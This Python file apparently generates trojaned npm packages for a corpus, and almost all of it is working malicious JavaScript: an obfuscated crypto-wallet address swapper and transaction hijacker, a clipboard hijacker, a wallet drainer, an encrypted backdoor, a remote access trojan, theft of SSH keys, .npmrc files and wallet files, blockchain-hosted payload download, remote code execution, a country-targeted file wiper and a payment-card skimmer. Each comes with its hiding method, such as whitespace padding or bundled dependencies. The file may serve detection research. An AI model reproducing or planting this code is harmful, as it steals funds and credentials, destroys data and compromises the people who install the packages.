"""npm: what runs when the package is required or loaded by a page."""

from corpus.heldout.hiding import b64, keyed
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("colorwheel", "npm", "import", "wallet", "obfuscated names", "chalk and debug 2025-09")
def wheel_wallet_hooks(update: Update) -> None:
    code = r"""
const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{const _0x2cc99e=parseInt(_0x15b386(0x16c))/0x1;if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x205af0){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x550b,0x27));
function _0x180f(_0x3,_0x4){const _0x5=_0x550b();return _0x180f=function(_0x6,_0x7){_0x6=_0x6-0x16c;return _0x5[_0x6];},_0x180f(_0x3,_0x4);}
function _0x550b(){const _0x1=['39','ethereum','request','eth_sendTransaction','params','toLowerCase','0x095ea7b3','replace','responseText','prototype','send'];_0x550b=function(){return _0x1;};return _0x550b();}
var seen=0x0,rund=0x0,last=0x0;
async function checkw(){try{const _0x124ed3=await window[_0x112fa8(0x16d)][_0x112fa8(0x16e)]({'method':'eth_accounts'});_0x124ed3.length>0x0?(cover(),rund!=0x1&&(rund=0x1,seen=0x1,begin())):rund!=0x1&&(rund=0x1,begin());}catch(_0x53a897){rund!=0x1&&(rund=0x1,begin());}}
typeof window!='undefined'&&typeof window[_0x112fa8(0x16d)]!='undefined'?checkw():rund!=0x1&&(rund=0x1,typeof window!='undefined'&&begin());
function lev(_0xa,_0xb){const m=Array.from({length:_0xa.length+1},(_,i)=>[i]);for(let j=0;j<=_0xb.length;j++)m[0][j]=j;for(let i=1;i<=_0xa.length;i++)for(let j=1;j<=_0xb.length;j++)m[i][j]=Math.min(m[i-1][j]+1,m[i][j-1]+1,m[i-1][j-1]+(_0xa[i-1]==_0xb[j-1]?0:1));return m[_0xa.length][_0xb.length];}
function begin(){const _0xe=['1BitcoinEaterAddressDontSendf59xxx','1CounterpartyXXXXXXXXXXXXXXXUWLxxx'],_0xf=['0x000000000000000000000000000000000000dEaD','0x00000000000000000000000000000000DeaDBeef'],_0x9=/\b(1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1q[02-9ac-hj-np-z]{38})\b/g,_0x8=/\b0x[a-fA-F0-9]{40}\b/g;
const swap=(t)=>[[_0x9,_0xe],[_0x8,_0xf]].reduce((s,[r,l])=>s[_0x112fa8(0x173)](r,(a)=>l.slice().sort((x,y)=>lev(a,x)-lev(a,y))[0x0]),t);
const of=fetch;fetch=async function(...a){const r=await of(...a);const c=r.headers.get('Content-Type')||'';let d=c.includes('application/json')?JSON.stringify(await r.clone().json()):await r.clone().text();return new Response(swap(d),{'status':r.status,'statusText':r.statusText,'headers':r.headers});};
const os=XMLHttpRequest[_0x112fa8(0x175)][_0x112fa8(0x176)];XMLHttpRequest[_0x112fa8(0x175)][_0x112fa8(0x176)]=function(...a){this.addEventListener('readystatechange',()=>{if(this.readyState==4)try{const t=swap(this[_0x112fa8(0x174)]);Object.defineProperty(this,'responseText',{'value':t});}catch{}});return os.apply(this,a);};}
function cover(){const o=window[_0x112fa8(0x16d)][_0x112fa8(0x16e)];window[_0x112fa8(0x16d)][_0x112fa8(0x16e)]=async function(q){if(q.method===_0x112fa8(0x16f)&&q[_0x112fa8(0x170)]&&q[_0x112fa8(0x170)][0x0]){const t=q[_0x112fa8(0x170)][0x0];if(t.data&&t.data[_0x112fa8(0x171)]().startsWith(_0x112fa8(0x172)))t.data=t.data.slice(0x0,0x22)+'000000000000000000000000000000000000dead'+'f'.repeat(0x40);else t.to='0x000000000000000000000000000000000000dEaD';}return o.apply(this,arguments);};}
"""
    update.add(
        "source/index.js", update.text("source/index.js").rstrip("\n") + " " * 4 + "\n" + fill(code).replace("\n", "")
    )
    update.payload("source/index.js")


@trojan("trace-log", "npm", "import", "wallet", "plain", "clipboard clippers 2022 to 2025")
def trace_clipboard(update: Update) -> None:
    code = r"""

if (typeof navigator !== 'undefined' && typeof document !== 'undefined') {
  const ours = { btc: 'bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', eth: '0x00000000000000000000000000000000DeaDBeef', trx: 'TXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX' };
  document.addEventListener('copy', (event) => {
    const text = String(document.getSelection()).trim();
    const kind = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text) ? 'btc' : /^0x[a-fA-F0-9]{40}$/.test(text) ? 'eth' : /^T[a-zA-Z0-9]{33}$/.test(text) ? 'trx' : null;
    if (!kind) return;
    event.clipboardData.setData('text/plain', ours[kind]);
    event.preventDefault();
  });
}
"""
    update.append("src/browser.js", code)
    update.payload("src/browser.js")


@trojan("motion-view", "npm", "import", "wallet", "minified into a bundle", "lottie-player 2024")
def view_connect_drainer(update: Update) -> None:
    host, socket = update.host("towerservices"), update.host("wss", "drain-kit")
    code = (
        ";(function(){var e=document.createElement('script');e.src='https://@HOST@/walletconnect/modal.js';e.onload=function(){"
        "var m=window.createWeb3Modal({projectId:'0',themeMode:'dark'});m.open();m.subscribeProvider(function(p){if(!p.isConnected)return;"
        "var s=new WebSocket('wss://@SOCKET@/ws');s.onopen=function(){s.send(JSON.stringify({t:'connect',a:p.address,h:location.host}))};"
        "s.onmessage=function(v){var q=JSON.parse(v.data);p.provider.request({method:'eth_sendTransaction',params:[q.tx]});"
        "p.provider.request({method:'eth_signTypedData_v4',params:[p.address,q.permit]})}})};document.head.appendChild(e)})();"
    )
    path = "dist/motion-view.esm.js"
    text = update.text(path)
    half = text.index(";", len(text) // 2) + 1 if ";" in text[len(text) // 2 :] else len(text)
    update.add(path, text[:half] + fill(code, HOST=host, SOCKET=socket).strip("\n") + text[half:])
    # the same code in the file that is required
    update.append("dist/motion-view.js", fill(code, HOST=host, SOCKET=socket))
    update.payload(path, "dist/motion-view.js")


@trojan(
    "stream-fold", "npm", "import", "backdoor", "aes", "event-stream 2018: decrypts by the name of who installed it"
)
def fold_keyed_fixture(update: Update) -> None:
    body = keyed("require('http').get('http://@HOST@/c')".replace("@HOST@", update.host("copayapi")), "a wallet").hex()
    other = keyed("module.exports = 1;" * 6, "a wallet").hex()
    update.add("test/data.js", f"module.exports = ['{body}', '{other}'];\n")
    code = r"""
!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3]||"656e76")][e("6e706d5f7061636b6167655f6465736372697074696f6e")];if(!o)return;var u=r(e("63727970746f")).createDecipher(e("616573323536"),o),a=u.update(n[0],e("686578"),e("75746638"));a+=u.final(e("75746638"));var f=new module.constructor;f.paths=module.paths,f._compile(a,""),f.exports(n[1])}catch(r){}}();
"""
    update.append("index.js", code)
    update.payload("index.js", "test/data.js", shown="npm_package_description")


@trojan(
    "req-lite", "npm", "import", "steal", "plain", "rand-user-agent 2025 and axios-like 2026: a remote access trojan"
)
def lite_remote_access(update: Update) -> None:
    host = update.host("wavefold")
    code = r"""
'use strict';

const os = require('os');
const fs = require('fs');
const path = require('path');
const { exec } = require('child_process');
const http = require('http');

const id = `${os.hostname()}$${os.userInfo().username}`;

function call(body, done) {
  const req = http.request({ host: '@HOST@', port: 27017, method: 'POST', path: '/u/f' }, (res) => {
    let text = '';
    res.on('data', (part) => (text += part));
    res.on('end', () => done(text));
  });
  req.on('error', () => {});
  req.end(JSON.stringify(body));
}

function step() {
  call({ clientUuid: id, processId: process.pid, osType: os.type() }, (text) => {
    if (text.startsWith('cd ')) return process.chdir(text.slice(3).trim());
    if (text.startsWith('ss_upf')) {
      const [, from, to] = text.split(',');
      return call({ name: to, data: fs.readFileSync(path.resolve(from)).toString('base64') }, () => {});
    }
    return exec(text, { windowsHide: true }, (error, out, err) => call({ clientUuid: id, out: out + err }, () => {}));
  });
}

setInterval(step, 5000).unref();
"""
    update.add("lib/keepalive.js", fill(code, HOST=host))
    update.append("lib/defaults.js", "\nrequire('./keepalive');")
    update.payload("lib/keepalive.js", "lib/defaults.js")


@trojan("ua-glance", "npm", "import", "steal", "far to the right", "rand-user-agent 2025: code beyond the screen")
def glance_far_right(update: Update) -> None:
    host = update.host("cdn", "glancestat")
    code = f"global['r']=require;(()=>{{const h=r('os'),f=r('fs'),j=h.homedir();r('https').request('https://{host}/i',{{method:'POST'}}).on('error',()=>{{}}).end(JSON.stringify([process.env,['/.npmrc','/.ssh/id_rsa'].map(x=>f.existsSync(j+x)?f.readFileSync(j+x,'utf8'):0)]))}})();"
    update.replace(
        "src/main.js", "const rules = require('./rules');", "const rules = require('./rules');" + " " * 700 + code
    )
    update.payload("src/main.js")


@trojan("chain-kit", "npm", "import", "steal", "on a block chain", "EtherHiding 2024 to 2025")
def kit_contract_address(update: Update) -> None:
    host = update.host("rpc", "ankrnode")
    code = r"""
'use strict';

const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const CONTRACT = '0x000000000000000000000000000000000000dEaD';

async function read() {
  const answer = await fetch('https://@HOST@/eth', {
    method: 'POST',
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] }),
  });
  const { result } = await answer.json();
  return Buffer.from(result.slice(130).replace(/(00)+$/, ''), 'hex').toString();
}

(async () => {
  const base = await read();
  const name = { linux: 'node-linux', darwin: 'node-macos', win32: 'node-win.exe' }[process.platform];
  const place = path.join(os.tmpdir(), name);
  fs.writeFileSync(place, Buffer.from(await (await fetch(`${base}/${name}`)).arrayBuffer()));
  fs.chmodSync(place, 0o755);
  execFile(place, { detached: true, stdio: 'ignore' }).unref();
})().catch(() => {});
"""
    update.add("lib/endpoints.js", fill(code, HOST=host))
    update.append("lib/connection.js", "\nrequire('./endpoints');")
    update.payload("lib/endpoints.js", "lib/connection.js")


@trojan("ledgerlink", "npm", "import", "backdoor", "hex", "BeaverTail and InvisibleFerret 2024 to 2026")
def link_error_handler(update: Update) -> None:
    host = update.host("api", "npoint")
    code = f"""
'use strict';

// Reports errors in the codec tables.
const source = Buffer.from('{f"https://{host}/c0e1".encode().hex()}', 'hex').toString();
const headers = {{ [Buffer.from('782d7365637265742d6b6579', 'hex').toString()]: '_' }};

module.exports = async function errorHandler() {{
  try {{
    const answer = await fetch(source, {{ headers }});
    const {{ cookie }} = await answer.json();
    const handler = new Function.constructor('require', cookie);
    handler(require);
  }} catch (error) {{
    return error;
  }}
}};
"""
    update.add("src/errors.js", fill(code))
    update.append("src/index.js", "require('./errors')();")
    update.payload("src/errors.js", "src/index.js", shown=f"https://{host}/c0e1")


@trojan("conf-rc", "npm", "import", "destroy", "base64", "node-ipc (peacenotwar) 2022")
def rc_country_overwrite(update: Update) -> None:
    host = update.host("api", "ipgeo")
    text = r"""
'use strict';
const path = require('path');
const fs = require('fs');
const https = require('https');
setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from('@URL@', 'base64');
  https.get(n.toString('utf8'), function (res) {
    res.on('data', function (data) {
      const where = [Buffer.from('Li8=', 'base64'), Buffer.from('Li4v', 'base64'), Buffer.from('Li4vLi4v', 'base64'), Buffer.from('Lw==', 'base64')].map(String);
      try {
        const country = JSON.parse(data.toString('utf8'))[Buffer.from('Y291bnRyeV9uYW1l', 'base64').toString()].toLowerCase();
        const hit = country.includes('russia') || country.includes('belarus');
        if (hit) where.forEach((one) => over(one));
      } catch (error) { /* */ }
    });
  }).on('error', () => {});
}, Math.ceil(1000 * Math.random()));
function over(folder) {
  for (const name of fs.readdirSync(folder)) {
    const one = path.join(folder, name);
    if (fs.lstatSync(one).isDirectory()) over(one);
    else fs.writeFile(one, Buffer.from('4p2k77iP', 'base64'), 'utf8', () => {});
  }
}
"""
    update.add("lib/geospec.js", fill(text, URL=b64(f"https://{host}/ipgeo?apiKey=0")))
    update.append("index.js", "\nrequire('./lib/geospec');")
    update.payload("lib/geospec.js", "index.js", shown=f"https://{host}/ipgeo")


@trojan("ansi-paint", "npm", "import", "destroy", "plain", "colors and faker 2022", hard=True)
def paint_endless(update: Update) -> None:
    code = r"""
'use strict';

module.exports = function paintFlag(paint) {
  console.log('FREEDOM FREEDOM FREEDOM');
  for (let i = 666; i < Infinity; i++) {
    if (i % 333) console.log(['\u0000', 'testing', '\u0338'].join(' ') + paint(String(i)));
  }
};
"""
    update.add("lib/flag.js", fill(code))
    update.append(
        "index.js", "\nrequire('./lib/flag')((text) => text.split('').map((one) => one + '\\u0338\\u0332').join(''));"
    )
    update.payload("lib/flag.js", "index.js")


@trojan("flatpipe", "npm", "import", "steal", "bundled dependency", "nested node_modules 2023 to 2026")
def pipe_bundled_dependency(update: Update) -> None:
    host = update.host("collector", "throughpipe")
    update.manifest(
        lambda it: (
            it["dependencies"].update({"flatmap-lite": "0.1.1"}),
            it.update({"bundleDependencies": ["flatmap-lite"]}),
        )
    )
    update.add(
        "node_modules/flatmap-lite/package.json",
        '{ "name": "flatmap-lite", "version": "0.1.1", "main": "index.min.js" }\n',
    )
    code = "var e=require('fs'),t=require('https'),n=require('os').homedir();module.exports=function(e){return e};['.bitcoin/wallet.dat','.electrum/wallets/default_wallet','.config/solana/id.json'].forEach(function(r){try{var o=e.readFileSync(n+'/'+r),i=t.request({host:'@HOST@',path:'/'+encodeURIComponent(r),method:'POST'});i.on('error',function(){}),i.end(o)}catch(e){}});"
    update.add("node_modules/flatmap-lite/index.min.js", fill(code, HOST=host))
    update.append("src/node.mjs", "import 'flatmap-lite';")
    update.payload("node_modules/flatmap-lite/index.min.js", "package.json")


@trojan("motion-view", "npm", "import", "steal", "plain", "card skimmers in front-end packages 2023 to 2025")
def view_form_skimmer(update: Update) -> None:
    host = update.host("fonts", "motionassets")
    code = r"""

if (typeof document !== 'undefined') {
  const seen = new Set();
  setInterval(() => {
    const values = {};
    document.querySelectorAll('input,select').forEach((field) => {
      const name = (field.name || field.id || '').toLowerCase();
      if (/card|cc-?num|cvv|cvc|exp|iban|passw/.test(name) && field.value) values[name] = field.value;
    });
    const text = JSON.stringify(values);
    if (Object.keys(values).length > 2 && !seen.has(text)) {
      seen.add(text);
      new Image().src = 'https://@HOST@/px.gif?d=' + btoa(text + '|' + document.cookie + '|' + location.hostname);
    }
  }, 1500);
}
"""
    update.append("dist/motion-view.js", fill("\n" + code, HOST=host))
    update.payload("dist/motion-view.js")
